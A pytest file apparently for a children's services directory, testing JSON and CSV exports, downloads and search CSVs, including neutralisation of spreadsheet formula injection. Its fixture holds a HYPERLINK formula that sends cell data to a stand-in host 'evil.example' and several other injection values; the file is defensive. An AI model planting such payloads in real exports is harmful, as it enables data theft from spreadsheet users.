"""Exports: the published directory as ORUK JSON and CSV (commands and downloads), any search as CSV, and
CSV cells that a spreadsheet would run as formulas neutralised."""
from __future__ import annotations

import csv
import io
import json

import pytest

from directory.api import standard
from directory.exports import CSV_COLUMNS, EXPORT_COLUMNS, SEARCH_COLUMNS, neutralise
from directory.models import ARCHIVED, DRAFT, PENDING
from portal.extensions import db

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for help")'


def read_csv(text: str) -> list[dict]:
    assert text.startswith("\ufeff")  # a byte-order mark, so spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.fixture
def listings(make_service, make_organisation):
    org = make_organisation("Riverside Family Support", description="Support.")
    swim = make_service("Sensory Swim", summary="Quiet swimming for autistic children.", organisation=org,
                        categories=["leisure"], needs=["autism"], locations=[("E8 1DY", 51.5431, -0.0641)],
                        age_min=4, age_max=16, is_free=False, cost_detail="£3 a session")
    evil = make_service(EVIL, summary="+SUM(1,2)", description="-2+3", organisation=org, categories=["advice"],
                        needs=["autism"], cost_detail="@SUM(A1)", email="\tx@example.org", phone="\r01632 960000",
                        locations=[("E8 2AA", 51.545, -0.06)])
    hidden = [make_service(f"Hidden {status}", summary="Not public.", status=status, needs=["autism"])
              for status in (DRAFT, PENDING, ARCHIVED)]
    return {"swim": swim, "evil": evil, "hidden": hidden}


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    for start in ("+", "-", "@", "\t", "\r"):
        assert neutralise(start + "x") == "'" + start + "x"
    assert neutralise("Plain text = fine") == "Plain text = fine"
    assert neutralise(None) == "" and neutralise(4) == "4"


def test_export_oruk_command_writes_valid_published_services(runner, listings, tmp_path):
    path = tmp_path / "directory.json"
    result = runner.invoke(args=["export", "oruk", str(path)])
    assert result.exit_code == 0, result.output
    data = json.loads(path.read_text(encoding="utf-8"))
    assert standard.errors(data, "service_package.json") == []
    for service in data:
        assert standard.errors(service, "service.json") == []
    assert [s["name"] for s in data] == sorted([EVIL, "Sensory Swim"])
    assert "Hidden" not in path.read_text(encoding="utf-8")


def test_exports_to_the_screen_and_bad_paths(runner, listings, tmp_path):
    result = runner.invoke(args=["export", "oruk", "-"])
    assert result.exit_code == 0 and len(json.loads(result.output)) == 2
    result = runner.invoke(args=["export", "csv", "-"])
    assert result.exit_code == 0 and len(list(csv.DictReader(io.StringIO(result.output)))) == 2
    result = runner.invoke(args=["export", "csv", str(tmp_path)])
    assert result.exit_code == 2 and "is a directory" in result.output


def test_export_csv_command(runner, listings, tmp_path):
    path = tmp_path / "directory.csv"
    assert runner.invoke(args=["export", "csv", str(path)]).exit_code == 0
    text = path.read_text(encoding="utf-8")
    rows = read_csv(text)
    assert list(rows[0]) == EXPORT_COLUMNS
    assert {r["name"] for r in rows} == {"Sensory Swim", "'" + EVIL}
    swim = next(r for r in rows if r["name"] == "Sensory Swim")
    assert (swim["categories"], swim["needs"], swim["age_min"], swim["age_max"], swim["free"], swim["cost"]) == (
        "leisure", "autism", "4", "16", "no", "£3 a session")
    assert (swim["postcode"], swim["latitude"], swim["longitude"]) == ("E8 1DY", "51.5431", "'-0.0641")
    assert swim["page"] == f"http://127.0.0.1:5000/services/{listings['swim'].id}"
    assert swim["types_of_support"] == "Activities and leisure"
    assert "Hidden" not in text


def test_csv_cells_that_look_like_formulas_are_neutralised(client, runner, listings, tmp_path):
    path = tmp_path / "directory.csv"
    runner.invoke(args=["export", "csv", str(path)])
    with open(path, encoding="utf-8", newline="") as fh:  # keep the carriage return inside a cell
        from_command = fh.read()
    texts = [from_command,
             client.get("/open-data/directory.csv").get_data(as_text=True),
             client.get("/search.csv?q=help").get_data(as_text=True)]
    for text in texts:
        [row] = [r for r in read_csv(text) if "HYPERLINK" in r["name"]]
        assert row["name"] == "'" + EVIL
        assert row["summary"] == "'+SUM(1,2)" and row["description"] == "'-2+3" and row["cost"] == "'@SUM(A1)"
        assert row["email"] == "'\tx@example.org" and row["phone"] == "'\r01632 960000"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_downloads(client, listings):
    response = client.get("/open-data/directory.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "attachment" in response.headers["Content-Disposition"]
    data = json.loads(response.data)
    assert standard.errors(data, "service_package.json") == []
    assert len(data) == 2
    etag = response.headers["ETag"]
    assert client.get("/open-data/directory.json", headers={"If-None-Match": etag}).status_code == 304
    response = client.get("/open-data/directory.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert len(read_csv(response.get_data(as_text=True))) == 2
    # a change in the directory is a new download
    listings["swim"].summary = "Now on Sundays."
    db.session.commit()
    assert client.get("/open-data/directory.json", headers={"If-None-Match": etag}).status_code == 200


def test_the_template_is_the_import_columns(client):
    response = client.get("/open-data/service-template.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = read_csv(response.get_data(as_text=True))
    assert list(rows[0]) == CSV_COLUMNS and rows[0]["name"] == "Saturday Sensory Swim"


def test_search_results_as_csv_use_the_search_parameters(client, make_service):
    for n in range(25):  # more than one page of results
        make_service(f"Autism Club {n:02d}", summary="A club.", needs=["autism"], age_min=5, age_max=11)
    make_service("ADHD Club", summary="A club.", needs=["adhd"], age_min=5, age_max=11)
    make_service("Teen Autism Club", summary="A club.", needs=["autism"], age_min=13, age_max=18)
    response = client.get("/search.csv?need=autism&age=9&sort=name&page=2")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response.get_data(as_text=True))
    assert list(rows[0]) == SEARCH_COLUMNS
    assert [r["name"] for r in rows] == [f"Autism Club {n:02d}" for n in range(25)]  # every page, in order
    html = client.get("/search?need=autism&age=9&sort=name&page=2").get_data(as_text=True)
    assert 'href="/search.csv?need=autism&amp;age=9&amp;sort=name"' in html
    assert "Download these results (CSV)" in html


def test_search_csv_with_words_and_distance(client, make_service):
    from directory.models import PostcodeCentroid

    db.session.add(PostcodeCentroid(postcode="E8", latitude=51.5430, longitude=-0.0640))
    db.session.commit()
    make_service("Swimming Near", summary="Swimming.", locations=[("E8 1DY", 51.5431, -0.0641)])
    make_service("Swimming Far", summary="Swimming.", locations=[("SE1 7PB", 51.4981, -0.0901)])
    make_service("Football", summary="Football.")
    rows = read_csv(client.get("/search.csv?q=swimming&postcode=E8&sort=distance").get_data(as_text=True))
    assert [r["name"] for r in rows] == ["Swimming Near", "Swimming Far"]
    assert float(rows[0]["distance_miles"]) < float(rows[1]["distance_miles"])


@pytest.mark.parametrize("query", ["age=abc", "sort=bogus", "page=-4", "postcode=nowhere", "need=unknown",
                                   "q=" + "x" * 500])
def test_search_csv_bad_parameters_are_ignored_like_the_page(client, listings, query):
    response = client.get(f"/search.csv?{query}")
    assert response.status_code == 200
    assert "Hidden" not in response.get_data(as_text=True)


def test_no_link_without_results(client):
    assert "Download these results" not in client.get("/search?q=nothing").get_data(as_text=True)
